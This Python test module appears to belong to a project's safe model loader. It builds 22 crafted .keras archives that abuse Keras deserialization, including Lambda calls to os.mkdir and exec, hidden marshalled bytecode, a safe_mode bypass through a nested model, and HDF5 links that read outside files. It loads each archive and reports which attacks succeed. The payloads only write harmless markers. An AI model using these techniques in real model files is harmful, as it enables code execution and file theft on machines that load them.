"""Attacks by .keras files: code run, files read, written or filled with, by those who load one.

`python -m tests.attacks.keras_files` hands each to `keras.models.load_model` of the Keras that it
finds, and prints what got through: of 22 attacks 18 in Keras 3.8, 12 in 3.9 and 3.10, 9 in 3.11.3,
7 in 3.12.0, 5 in 3.12.1, 3 in 3.12.2, 2 in 3.12.3 and 3.12.4, 7 in 3.13.0 and 3.13.1, 5 in 3.13.2,
3 in 3.14.1, 2 in 3.15. The last two, Keras's settings and memory, no version refuses;
`load_pretrained` refuses all.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import resource
import sys
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py

MARKER = "attacked"
SECRET = 47.11


def archive(path: Path, config: Any, weights: bytes | None = None, **more: bytes) -> Path:
    """Writes a .keras file of these parts."""
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("metadata.json", '{"keras_version": "3.8.0", "date_saved": ""}')
        file.writestr("config.json", config if isinstance(config, str) else json.dumps(config))
        file.writestr("model.weights.h5", h5(lambda file: None) if weights is None else weights)
        for name, content in more.items():
            file.writestr(name, content)
    return path


def h5(fill: Callable[[h5py.File], Any]) -> bytes:
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        fill(file)
    return buffer.getvalue()


def builtin(kind: str, module: str = "keras.layers", /, **config: Any) -> dict[str, Any]:
    """A layer of Keras."""
    return {"module": module, "class_name": kind, "config": config, "registered_name": None}


def function(module: str, name: str) -> dict[str, Any]:
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": "function",
    }


def sequential(*layers: dict[str, Any], **more: Any) -> dict[str, Any]:
    first = builtin("InputLayer", batch_shape=[None, 4], dtype="float32", name="first")
    built = {"build_config": {"input_shape": [None, 4]}}
    model = builtin("Sequential", "keras", name="model", layers=[first, *layers], trainable=True)
    return {**model, **built, **more}


def calling(*layers: tuple[dict[str, Any], Any]) -> dict[str, Any]:
    """A functional model that calls each layer with an argument."""
    parts = []
    for i, (layer, argument) in enumerate(layers):
        name = f"layer_{i}"
        node = {"args": [], "kwargs": {"inputs": argument}}
        built = {"input_shape": [None, 4]}
        layer = {**layer, "config": {**layer["config"], "name": name}}
        parts.append({**layer, "name": name, "inbound_nodes": [node], "build_config": built})
    ends = {"input_layers": [["layer_0", 0, 0]], "output_layers": [["layer_0", 0, 0]]}
    return builtin("Functional", "keras.src.models.functional", name="m", layers=parts, **ends)


def by_lambda(module: str, name: str, argument: Any, /, **arguments: Any) -> dict[str, Any]:
    """A model of a Lambda layer that calls a function of a module while the model is made."""
    layer = builtin("Lambda", function=function(module, name), arguments=arguments)
    return calling((layer, argument))


def bytecode() -> dict[str, Any]:
    code = compile(f"lambda x: open({MARKER!r}, 'w') and x", "", "eval").co_consts[0]
    text = base64.b64encode(marshal.dumps(code)).decode()
    inner = {"code": text, "defaults": None, "closure": None}
    return {"class_name": "__lambda__", "config": inner}


def lambda_layer(**more: Any) -> dict[str, Any]:
    return builtin("Lambda", name="code", function=bytecode(), **more)


def dense(fill: Callable[[h5py.Group], Any]) -> Callable[[Path], Path]:
    """A dense layer whose kernel is what `fill` puts into the weights."""

    def build(folder: Path) -> Path:
        def layer(file: h5py.File) -> None:
            variables = file.create_group("layers/dense/vars")
            fill(variables)
            variables["1"] = [0.0] * 4

        model = sequential(builtin("Dense", units=4, name="dense"))
        return archive(folder / "attack.keras", model, h5(layer))

    return build


def secret_h5() -> h5py.ExternalLink:
    with h5py.File("secret.h5", "w") as file:
        file["secret"] = [[SECRET] * 4] * 4
    return h5py.ExternalLink(os.path.abspath("secret.h5"), "/secret")


def external_storage(group: h5py.Group) -> None:
    import numpy as np

    np.full((4, 4), SECRET, "float32").tofile("secret")
    place = [(os.path.abspath("secret"), 0, 64)]
    group.create_dataset("0", (4, 4), "float32", external=place)


def virtual(group: h5py.Group) -> None:
    link = secret_h5()
    layout = h5py.VirtualLayout((4, 4), "float32")
    layout[:] = h5py.VirtualSource(link.filename, link.path, (4, 4), "float64")
    group.create_virtual_dataset("0", layout)


def saved_model() -> str:
    import tensorflow as tf

    class Module(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 4])])
        def serve(self, x):
            tf.io.write_file(MARKER, "x")
            return x

    module = Module()
    tf.saved_model.save(module, "saved", {"serve": module.serve})
    return os.path.abspath("saved")


def secret_words() -> str:
    Path("secret.txt").write_text("secret\nwords\n")
    return os.path.abspath("secret.txt")


def link_to_file() -> str:
    Path("page").write_text("x")
    return Path("page").absolute().as_uri()


def plain(config: Callable[[], Any], **more: bytes) -> Callable[[Path], Path]:
    return lambda folder: archive(folder / "attack.keras", config(), **more)


def nested(folder: Path) -> Path:
    inner = archive(folder / "inner.keras", sequential(lambda_layer()))
    unlock = function("keras.src.backend.common.global_state", "set_global_attribute")
    load = function("keras.models", "load_model")
    steps = (
        (builtin("Lambda", function=unlock, arguments={"value": False}), "safe_mode_saving"),
        (builtin("Lambda", function=load, arguments={"safe_mode": False}), str(inner)),
    )
    return archive(folder / "attack.keras", calling(*steps))


ATTACKS = {
    "os.mkdir called by a Lambda": plain(lambda: by_lambda("os", "mkdir", MARKER)),
    "builtins.exec called by a Lambda": plain(
        lambda: by_lambda("builtins", "exec", f"open({MARKER!r}, 'w')")
    ),
    "a module imported": plain(lambda: sequential(builtin("Layer", "this", name="layer"))),
    "os.mkdir in a nested model": plain(lambda: sequential(by_lambda("os", "mkdir", MARKER))),
    "os.mkdir in a wrapper": plain(
        lambda: sequential(
            builtin("TimeDistributed", layer=by_lambda("os", "mkdir", MARKER), name="wrapper")
        )
    ),
    "bytecode in a Lambda": plain(lambda: sequential(lambda_layer())),
    "bytecode, safe_mode in the config": plain(
        lambda: {**sequential(lambda_layer(safe_mode=False)), "safe_mode": False}
    ),
    "bytecode as an activation": plain(
        lambda: sequential(builtin("Activation", activation=bytecode(), name="activation"))
    ),
    "bytecode as the loss": plain(
        lambda: sequential(compile_config={"optimizer": "sgd", "loss": bytecode()})
    ),
    "os.mkdir as the loss": plain(
        lambda: sequential(compile_config={"optimizer": "sgd", "loss": function("os", "mkdir")})
    ),
    "bytecode after unlocking load_model": nested,
    "keras.utils.get_file": plain(
        lambda: by_lambda(
            "keras.utils", "get_file", MARKER, origin=link_to_file(), cache_dir=os.getcwd()
        )
    ),
    "get_file by its inner name": plain(
        lambda: by_lambda(
            "keras.src.utils.file_utils",
            "get_file",
            MARKER,
            origin=link_to_file(),
            cache_dir=os.getcwd(),
        )
    ),
    "keras.utils.save_img": plain(
        lambda: by_lambda("keras.utils", "save_img", f"{MARKER}.png", x=[[[0.0]]])
    ),
    "keras.config.set_floatx": plain(lambda: by_lambda("keras.config", "set_floatx", "float16")),
    "a SavedModel in a TFSMLayer": plain(
        lambda: calling(
            (builtin("TFSMLayer", filepath=saved_model(), call_endpoint="serve"), [[0.0] * 4])
        )
    ),
    "a file read by StringLookup": plain(
        lambda: sequential(builtin("StringLookup", vocabulary=secret_words(), name="words"))
    ),
    "a file read by TextVectorization": plain(
        lambda: sequential(
            builtin(
                "TextVectorization",
                name="words",
                max_tokens=None,
                standardize=None,
                split="whitespace",
                ngrams=None,
                output_mode="int",
                output_sequence_length=None,
                pad_to_max_tokens=False,
                sparse=False,
                ragged=False,
                vocabulary=secret_words(),
            )
        )
    ),
    "weights in another file": dense(lambda group: group.__setitem__("0", secret_h5())),
    "weights in external storage": dense(external_storage),
    "weights in a virtual dataset": dense(virtual),
    "weights of 1.6 GB in 2 kB": dense(
        lambda group: group.create_dataset("0", (20_000, 20_000), chunks=(1000, 1000))
    ),
}


def effects(folder: Path, model: Any) -> list[str]:
    """What an attack has done."""
    found = []
    places = (folder, folder.parent, folder / "datasets")
    if any(path.name.startswith(MARKER) for place in places for path in place.glob("*")):
        found.append("code ran, or a file was written")
    if sys.modules.pop("this", None):
        found.append("a module was imported")
    if model is not None:
        if getattr(getattr(model, "loss", None), "__module__", "") == os.name:
            found.append("a function of the system became the loss")
        if any(abs(float(w.numpy().ravel()[0]) - SECRET) < 1e-3 for w in model.weights):
            found.append("another file's numbers became weights")
        for layer in model.layers:
            words = layer.get_vocabulary() if hasattr(layer, "get_vocabulary") else ()
            if "secret" in words:
                found.append("another file's words became a vocabulary")
            if type(layer).__name__ == "TFSMLayer":
                found.append("a SavedModel elsewhere was loaded")
    return found


def main() -> int:
    """Runs all attacks, and prints which got through."""
    os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
    import keras

    # As on a machine with little memory, where Keras reads the weights from the disk.
    keras.src.saving.saving_lib.is_memory_sufficient = lambda model: False
    failed = 0
    for name, build in ATTACKS.items():
        model, said = None, "LOADED"
        with tempfile.TemporaryDirectory() as outer:
            folder = Path(outer) / "folder"
            folder.mkdir()
            os.chdir(folder)
            path = build(folder)
            before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
            try:
                model = keras.models.load_model(path)
            except Exception as error:
                said = f"{type(error).__name__}: {' '.join(str(error).split())[:90]}"
            found = effects(folder, model)
            if resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before > 1 << 20:
                found.append("over 1 GB of memory was filled")
            if keras.config.floatx() != "float32":
                found.append("Keras computes in another precision")
                keras.config.set_floatx("float32")
            keras.src.saving.serialization_lib.global_state.set_global_attribute(
                "safe_mode_saving", None
            )
            os.chdir("/")
        failed += bool(found)
        print(f"{name:46} | {'; '.join(found).upper() or said}", flush=True)
    print(f"Keras {keras.__version__}: {failed} of {len(ATTACKS)} got through")
    return failed > 0


if __name__ == "__main__":
    sys.exit(main())
